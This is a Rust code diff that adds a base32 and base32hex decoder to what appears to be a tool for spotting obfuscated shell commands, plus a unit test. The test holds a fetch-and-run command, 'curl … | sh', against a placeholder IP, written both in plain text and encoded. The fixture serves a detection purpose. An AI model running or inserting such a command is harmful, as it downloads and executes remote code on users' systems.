@@ -114,6 +114,42 @@ pub fn hex_text(s: &str) -> Option<String> {
     text_of(bytes)
 }
 
+/// Base32 text an explicit decoder is given (`echo … | base32 -d | sh`,
+/// `basenc --base32 -d`; `hex` for the base32hex alphabet), case-insensitive,
+/// whitespace and padding ignored; at most [`MAX_BASE64`] characters.
+pub fn base32_text(s: &str, hex: bool) -> Option<String> {
+    let digits: Vec<u8> = s
+        .trim_matches(['"', '\''])
+        .bytes()
+        .filter(|b| !b.is_ascii_whitespace())
+        .collect();
+    let end = digits.iter().rposition(|b| *b != b'=').map_or(0, |i| i + 1);
+    if !(4..=MAX_BASE64).contains(&end) {
+        return None;
+    }
+    let value = |c: u8| -> Option<u32> {
+        let c = c.to_ascii_uppercase();
+        Some(match (hex, c) {
+            (false, b'A'..=b'Z') => c - b'A',
+            (false, b'2'..=b'7') => c - b'2' + 26,
+            (true, b'0'..=b'9') => c - b'0',
+            (true, b'A'..=b'V') => c - b'A' + 10,
+            _ => return None,
+        } as u32)
+    };
+    let (mut bits, mut n, mut out) = (0u64, 0, Vec::with_capacity(end * 5 / 8));
+    for &c in &digits[..end] {
+        bits = (bits << 5) | u64::from(value(c)?);
+        n += 5;
+        if n >= 8 {
+            n -= 8;
+            out.push((bits >> n) as u8);
+            bits &= (1 << n) - 1;
+        }
+    }
+    text_of(out)
+}
+
 fn text_of(b: Vec<u8>) -> Option<String> {
     if let Some(t) = utf16le(&b) {
         return Some(t);
@@ -239,6 +275,27 @@ pub fn joined_strings(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn base32_both_alphabets() {
+        // "curl -s http://203.0.113.5/i | sh" (RFC 4648 base32, then base32hex)
+        let b32 = "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOGUXWSID4EBZWQ===";
+        assert_eq!(
+            base32_text(b32, false).as_deref(),
+            Some("curl -s http://203.0.113.5/i | sh")
+        );
+        assert_eq!(
+            base32_text(&b32.to_ascii_lowercase(), false).as_deref(),
+            base32_text(b32, false).as_deref()
+        );
+        let hex = "CDQN4R105LPI0Q3KEHO3KBPF68O36BHG5OOJ2CPE6KNMI83S41PMG===";
+        assert_eq!(
+            base32_text(hex, true).as_deref(),
+            Some("curl -s http://203.0.113.5/i | sh")
+        );
+        assert_eq!(base32_text("not base32!", false), None);
+        assert_eq!(base32_text("AB", false), None);
+    }
 
     #[test]
     fn base64_forms() {
